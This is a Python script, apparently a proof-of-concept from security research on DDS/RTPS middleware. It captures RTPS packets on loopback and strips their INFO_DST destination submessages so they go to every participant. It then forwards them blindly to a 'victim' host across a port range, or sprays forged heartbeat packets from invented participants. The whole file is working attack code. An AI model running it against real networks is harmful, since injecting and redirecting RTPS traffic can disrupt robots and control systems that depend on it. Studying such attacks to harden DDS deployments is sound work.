"""What anybody on the LAN can do blind: hears the RTPS packets of a laboratory on its own loopback and sends each at once to
another host, without the name of the participant it was meant for. It never listens to that host.

    lan_relay.py VICTIM_ADDRESS FIRST_PORT LAST_PORT     forwards until it is ended
    lan_relay.py VICTIM_ADDRESS PORT COUNT --invented    COUNT packets of invented participants
"""
import os
import socket
import struct
import sys

ETHERNET = 14
INFO_DST, PAD = 0x0E, 0x01  # RTPS 2.2, Sec. 9.4.5.1
LOOPBACK_OUTGOING = 4  # sockaddr_ll.sll_pkttype: on lo every packet is seen twice


def udp_payload(frame):
    ip = frame[ETHERNET:]
    header = 4 * (ip[0] & 15)
    return ip[header + 8:] if len(ip) > header + 8 and ip[9] == socket.IPPROTO_UDP else b""


def for_everybody(packet):
    """The same packet with every INFO_DST turned into PAD."""
    octets = bytearray(packet)
    at = 20
    while at + 4 <= len(octets):
        order = "<" if octets[at + 1] & 1 else ">"
        length = struct.unpack_from(order + "H", octets, at + 2)[0]
        if octets[at] == INFO_DST:
            octets[at] = PAD
        if length == 0:  # it reaches to the end of the packet
            break
        at += 4 + length
    return bytes(octets)


def forward(victim, first, last):
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0800)) as tap:
        tap.bind(("lo", 0))
        print("listening", flush=True)
        while True:
            frame, origin = tap.recvfrom(65536)
            payload = udp_payload(frame)
            if origin[2] == LOOPBACK_OUTGOING or not payload.startswith(b"RTPS"):
                continue
            for port in range(first, last + 1):
                try:
                    sender.sendto(for_everybody(payload), (victim, port))
                except OSError:  # "connection refused": nobody is at that port
                    pass


def invent(victim, port, count):
    """RTPS headers with a heartbeat of a participant that does not exist: well formed, and of no effect."""
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for _ in range(count):
        heartbeat = struct.pack("<BBHIIiIiII", 7, 1, 28, 0, 0xC2000100, 0, 1, 0, 1, 1)
        sender.sendto(b"RTPS\x02\x01\x01\x10" + os.urandom(12) + heartbeat, (victim, port))


if __name__ == "__main__":
    (invent if "--invented" in sys.argv else forward)(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]))
